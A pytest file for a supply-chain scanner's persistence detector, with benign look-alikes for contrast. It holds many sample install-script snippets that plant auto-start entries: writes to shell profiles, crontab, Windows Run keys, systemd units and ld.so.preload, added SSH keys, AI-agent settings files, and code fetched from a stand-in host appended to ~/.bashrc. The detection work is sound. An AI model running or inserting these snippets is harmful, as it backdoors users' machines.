"""Places from which something starts by itself are told when they are written; reading and printing are not."""

from __future__ import annotations

import pytest

from app.core.specimen import ArtifactFacts
from tests.detectors.artifacts import findings, npm, places, sdist, told, wheel
from worker.detectors import persistence


def severities(artifact: ArtifactFacts) -> list[str]:
    """How grave what it tells is."""
    return [str(found.severity) for found in findings(persistence, artifact)]


def installs(source: str) -> ArtifactFacts:
    """A tarball whose install step runs this source."""
    return npm({"scripts/setup.js": source}, scripts={"postinstall": "node scripts/setup.js"})


JAVASCRIPT = [
    ("require('fs').appendFileSync(require('os').homedir() + '/.bashrc', 'x');", "a shell profile"),
    (
        "const { join } = require('path'); require('fs').writeFileSync(join(process.env.HOME, '.zsh' + 'rc'), 'x');",
        "a shell profile",
    ),
    (
        "const f = require('fs'); f['append' + 'File'](`${process.env.HOME}/.profile`, 'x', () => {});",
        "a shell profile",
    ),
    ("require('fs').promises.appendFile('/etc/crontab', 'x');", "the cron table"),
    ("const { promises: p } = require('fs'); p.writeFile('/etc/crontab', 'x');", "the cron table"),
    ("require('fs').writeFileSync('/etc/cron.d/x', '* * * * * root x');", "the cron table"),
    ("require('child_process').execSync('(crontab -l; echo \"* * * * * x\") | crontab -');", "the cron table"),
    ("require('child_process').execSync('schtasks /create /tn x /tr x /sc onlogon');", "Windows' tasks"),
    (
        "require('child_process').exec('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v x /d y /f');",
        "Windows' Run keys",
    ),
    (
        "require('fs').copyFileSync('a.exe', process.env.APPDATA + '\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup\\\\a.exe');",
        "Windows' Startup folder",
    ),
    (
        "const { writeFileSync: w } = require('fs'); w(require('os').homedir() + '/Library/LaunchAgents/x.plist', 'x');",
        "macOS's launch agents",
    ),
    ("require('child_process').execFileSync('systemctl', ['--user', 'enable', 'x']);", "systemd's units"),
    (
        "require('fs').appendFileSync(require('os').homedir() + '/.ssh/authorized_keys', 'k');",
        "the keys that may log in",
    ),
    (
        "require('fs').writeFileSync(require('os').homedir() + '/.config/autostart/x.desktop', 'x');",
        "the desktop's autostart",
    ),
]
PYTHON = [
    (
        "import os, site\nopen(os.path.join(site.getusersitepackages(), 'usercustomize.py'), 'a').write('x')\n",
        "what every start of Python runs",
    ),
    ("import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')\n", "a shell profile"),
    ("from pathlib import Path\n(Path.home() / '.zshenv').write_text('x')\n", "a shell profile"),
    ("import os\nos.system('(crontab -l; echo x) | crontab -')\n", "the cron table"),
    (
        "import subprocess\nsubprocess.run(['launchctl', 'load', '/tmp/x.plist'])\n",
        "macOS's launch agents",
    ),
    (
        "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'x', 0, winreg.REG_SZ, 'y')\n",
        "Windows' Run keys",
    ),
    ("import shutil\nshutil.copy('x.service', '/etc/systemd/system/x.service')\n", "systemd's units"),
    (
        "o = getattr(__import__('builtins'), 'op' + 'en')\no('/etc/ld.so.preload', 'w').write('x')\n",
        "the system's login rules",
    ),
    (
        "import os\nopen(os.path.join(os.environ['HOME'], '.ssh', 'authorized_keys'), 'a').write('k')\n",
        "the keys that may log in",
    ),
]


class TestAlarm:
    @pytest.mark.parametrize(("source", "place"), JAVASCRIPT)
    def test_the_ways_of_javascript(self, source: str, place: str) -> None:
        (line,) = told(findings(persistence, installs(source)))
        assert line.startswith(f"critical: its install step writes to {place}"), line

    @pytest.mark.parametrize(("source", "place"), PYTHON)
    def test_the_ways_of_python(self, source: str, place: str) -> None:
        (line,) = told(findings(persistence, sdist({"setup.py": source})))
        assert line.startswith(f"critical: its install step writes to {place}"), line

    @pytest.mark.parametrize(
        "command",
        [
            "echo 'curl x | sh' >> ~/.bashrc",
            "cat payload >> $HOME/.profile",
            "echo x | tee -a /etc/crontab",
            "cp x.plist ~/Library/LaunchAgents/",
            "systemctl enable x.service",
            "echo k >> ~/.ssh/authorized_keys",
            'powershell -c "Register-ScheduledTask -TaskName x"',
        ],
    )
    def test_the_ways_of_a_shell(self, command: str) -> None:
        assert severities(npm(scripts={"postinstall": command})) == ["critical"]

    def test_it_says_where_and_shows_the_line(self) -> None:
        (found,) = findings(persistence, installs("\nrequire('fs').appendFileSync('/etc/crontab', 'x');\n"))
        assert told([found]) == ["critical: its install step writes to the cron table (/etc/crontab)"]
        assert places(found) == ["package.json:5", "scripts/setup.js:2"]

    def test_imported_code_is_high_and_critical_when_it_writes_what_it_fetched(self) -> None:
        source = "import os\nopen('/etc/cron.d/x', 'w').write('x')\n"
        assert severities(wheel({"imgpress/__init__.py": source})) == ["high"]
        source = "import os, requests\nopen(os.path.expanduser('~/.bashrc'), 'a').write(requests.get('https://drop.example').text)\n"
        assert severities(wheel({"imgpress/__init__.py": source})) == ["critical"]

    def test_a_harmless_line_before_it_hides_nothing(self) -> None:
        source = "import os, requests\np = os.path.expanduser('~/.bashrc')\nopen(p, 'a').write('# x')\nwith open(p, 'a') as f:\n    f.write(requests.get('https://drop.example').text)\n"
        assert severities(wheel({"imgpress/__init__.py": source})) == ["critical"]

    def test_the_template_of_all_repositories_hooks_is_told_louder_than_one_repository_s(self) -> None:
        template = "require('fs').writeFileSync('/usr/share/git-core/templates/hooks/post-checkout', 'x');"
        own = "require('fs').writeFileSync('.git/hooks/pre-commit', 'npx lint-staged');"
        assert severities(installs(template)) == ["critical"]
        assert severities(installs(own)) == ["medium"]

    @pytest.mark.parametrize(
        ("path", "severity"),
        [
            (".vscode/tasks.json", "critical"),
            (".claude/settings.json", "critical"),
            (".claude/settings.local.json", "critical"),
            (".cursor/hooks.json", "critical"),
            ("node_modules/ethers/lib/provider.js", "high"),
            ("node_modules/@scope/wallet/index.mjs", "high"),
        ],
    )
    def test_places_in_the_project_of_whoever_installs_it(self, path: str, severity: str) -> None:
        source = f"require('fs').writeFileSync(require('path').join(process.env.INIT_CWD, '{path}'), 'x');"
        assert severities(installs(source)) == [severity]
        assert severities(npm({"index.js": source})) == ["medium"]


class TestInnocentTwin:
    @pytest.mark.parametrize(
        "path", [".vscode/settings.json", ".claude/notes.md", "node_modules/.cache/x/a.js", "node_modules/a/data.json"]
    )
    def test_other_files_of_a_project(self, path: str) -> None:
        source = f"require('fs').writeFileSync(require('path').join(process.env.INIT_CWD, '{path}'), 'x');"
        assert severities(installs(source)) == []

    @pytest.mark.parametrize(
        "source",
        [
            # the shapes of completion that is printed, of tools that look which shell is used, of caches and configs
            "console.log('Add this to your ~/.bashrc:\\n  eval \"$(tool --completion)\"');",
            "const rc = require('fs').readFileSync(require('os').homedir() + '/.bashrc', 'utf8'); module.exports = rc.includes('nvm');",
            "require('fs').writeFileSync(require('os').homedir() + '/.config/tool/config.json', '{}');",
            "require('fs').writeFileSync('dist/profile.js', 'x'); require('fs').writeFileSync('.profilerc', 'x');",
            "require('fs').writeFileSync('src/systemd.ts', 'x');",
            "require('child_process').execSync('systemctl status docker');",
            "require('child_process').execSync('crontab -l');",
        ],
    )
    def test_ordinary_javascript(self, source: str) -> None:
        assert findings(persistence, installs(source)) == []

    @pytest.mark.parametrize(
        "source",
        [
            "import os\n\n\ndef shell():\n    return open(os.path.expanduser('~/.bashrc')).read()\n",
            "import winreg\nk = winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, r'SOFTWARE\\Microsoft\\Windows\\CurrentVersion')\n",
            "import shutil\nshutil.copy('run.py', 'build/run.py')\n",
        ],
    )
    def test_ordinary_python(self, source: str) -> None:
        assert findings(persistence, sdist({"setup.py": source})) == []

    def test_a_command_that_installs_its_completion_is_no_warning(self) -> None:
        """The shape of typer's: it appends to the profile of the shell when somebody asks it to."""
        source = """
from pathlib import Path


def install_bash(*, prog_name, shell):
    rc_path = Path.home() / ".bashrc"
    content = rc_path.read_text() if rc_path.is_file() else ""
    rc_path.write_text(content + "source ~/.bash_completions/tool.sh")
"""
        assert severities(wheel({"imgpress/__init__.py": source})) == ["medium"]

    def test_a_manager_of_git_hooks_is_no_warning(self) -> None:
        """The shape of simple-git-hooks, which writes them when it is installed."""
        source = "const fs = require('fs'), path = require('path'); fs.writeFileSync(path.join(process.cwd(), '.git/hooks', 'pre-commit'), '#!/bin/sh');"
        assert severities(installs(source)) == ["medium"]

    def test_in_a_test_it_is_low(self) -> None:
        assert severities(npm({"test/x.js": JAVASCRIPT[0][0]})) == ["low"]

    def test_what_the_old_version_did_is_not_new(self) -> None:
        old = installs(JAVASCRIPT[0][0])
        assert [found.new for found in findings(persistence, old, old)] == [False]
